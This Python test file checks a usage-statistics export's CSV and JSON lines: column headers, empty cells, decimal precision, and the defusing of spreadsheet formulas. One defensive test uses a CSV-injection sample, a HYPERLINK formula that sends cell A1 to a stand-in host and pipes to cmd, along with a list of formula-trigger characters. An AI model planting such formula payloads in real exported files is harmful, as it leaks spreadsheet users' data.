"""Is a line of CSV what every spreadsheet and program reads as the same figures, and nothing that is run?"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.stats.lines import COLUMNS, CSV_HEADER, csv_lines, json_lines
from app.stats.structs import UsageRow
from tests.usage.exports import exact_text

NOTHING: dict[str, Any] = dict.fromkeys(COLUMNS)


def row(**figures: Any) -> UsageRow:
    """What is not given is not known."""
    return UsageRow(**(NOTHING | {"date": date(2026, 8, 1), "key_id": 0, "model_id": 0, "provider_id": 0} | figures))


def written(**figures: Any) -> dict[str, str]:
    """As a program reads it back."""
    text = io.StringIO((CSV_HEADER + csv_lines([row(**figures)])).decode(), newline="")
    (line,) = csv.DictReader(text, strict=True)
    return line


def test_header_names_the_columns_of_the_contract() -> None:
    assert CSV_HEADER == (
        b"date,api_key_id,api_key_name,model,provider,requests,tokens_input,tokens_output,tokens_reasoning,tokens_cached,"
        b"cost,byok_cost\r\n"
    )


def test_what_is_not_known_is_an_empty_cell_and_zero_is_zero() -> None:
    assert csv_lines([row()]) == b"2026-08-01,,,,,,,,,,,\r\n"
    assert csv_lines([row(requests=0, cost=Decimal(0), tokens_input=0)]) == b"2026-08-01,,,,,0,0,,,,0,\r\n"


@pytest.mark.parametrize(
    ("cost", "text"),
    [
        ("0.000001", "0.000001"), ("1E-9", "0.000000001"), ("1E+3", "1000"), ("0.10", "0.10"), ("-0.5", "-0.5"),
        ("-1E-7", "-0.0000001"), ("123456789.123456789123456789", "123456789.123456789123456789"),
    ],
)  # fmt: skip
def test_money_keeps_its_digits_and_a_negative_number_is_a_number(cost: str, text: str) -> None:
    assert written(cost=Decimal(cost))["cost"] == text


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
@pytest.mark.parametrize("column", ["api_key_name", "model", "provider"])
def test_text_that_a_spreadsheet_would_run_is_defused(column: str, begin: str) -> None:
    text = f'{begin}HYPERLINK("http://x/"&A1;"y")|cmd'
    assert written(**{column: text})[column] == f"'{text}"


@pytest.mark.parametrize(
    "text", ["a=1", "maker/model-1+2", " =1", "'=1", "1-2", 'a "b", c', "two\nlines", "ü 🙂", "0", ""]
)
def test_other_text_is_as_it_is(text: str) -> None:
    assert written(model=text)["model"] == text


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
def test_every_text_is_read_back_and_none_is_run(text: str) -> None:
    read = written(api_key_name=text)["api_key_name"]
    assert read in {text, f"'{text}"}
    assert read[:1] not in set("=+-@\t\r\n＝＋－＠")


def test_lines_of_json_are_objects_of_the_same_columns() -> None:
    lines = json_lines([row(model="=1", cost=Decimal("0.10")), row(requests=0)]).splitlines()
    first, second = [exact_text(line) for line in lines]
    assert [*first] == [*second] == [*COLUMNS]
    assert (first["model"], str(first["cost"]), first["requests"]) == ("=1", "0.10", None)
    assert (second["requests"], second["cost"]) == (0, None)
    assert msgspec.json.decode(lines[0])["date"] == "2026-08-01"
